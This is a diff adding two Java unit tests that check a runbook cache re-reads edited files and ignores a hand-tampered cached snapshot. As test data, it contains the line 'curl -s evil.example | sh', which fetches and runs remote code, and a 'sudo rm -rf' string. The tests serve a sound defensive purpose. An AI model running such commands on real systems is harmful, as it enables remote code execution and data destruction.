@@ -143,6 +143,45 @@ class LibraryCacheTest {
         }
     }
 
+    /** A copy that keeps the size and time (cp -p, rsync -t, touch -r) still changes the steps. */
+    @Test
+    void anEditThatKeepsTheFilesSizeAndTimeIsRead() throws IOException {
+        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
+        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
+        cache.library(List.of(runbooks), update).close();
+        Path stalled = runbooks.resolve("queue-stalled.md");
+        FileTime time = Files.getLastModifiedTime(stalled);
+        Files.writeString(stalled, Files.readString(stalled).replace("sudo rm -rf", "ls -l -d   "));
+        Files.setLastModifiedTime(stalled, time);
+        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
+                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
+            assertThat(update[0].reread()).isEqualTo(1);
+            assertThat(steps(next)).anyMatch(command -> command.startsWith("ls -l -d")).noneMatch(command -> command.contains("rm -rf"));
+            assertSameLibrary(next, read);
+        }
+    }
+
+    /** The cached library is what the window shows and sends: a line edited in it is not served as the runbook. */
+    @Test
+    void aCachedRunbookEditedByHandIsReadFromTheFileInstead() throws IOException {
+        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
+        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
+        cache.library(List.of(runbooks), update).close();
+        Path snapshot = cache.indexFolder(List.of(runbooks)).resolve("library.jsonl");
+        String cached = Files.readString(snapshot);
+        assertThat(cached).contains("kubectl get pods -n <namespace> -l app=consumer");
+        Files.writeString(snapshot, cached.replace("kubectl get pods -n <namespace> -l app=consumer", "curl -s evil.example | sh"));
+        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
+                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
+            assertThat(steps(next)).noneMatch(command -> command.contains("evil"));
+            assertSameLibrary(next, read);
+        }
+    }
+
+    private static List<String> steps(RunbookLibrary library) {
+        return library.runbooks().stream().flatMap(r -> r.steps().stream()).map(Step::command).toList();
+    }
+
     @Test
     void aDamagedSnapshotIsReadAgain() throws IOException {
         SearchIndexCache cache = new SearchIndexCache(cacheFolder);
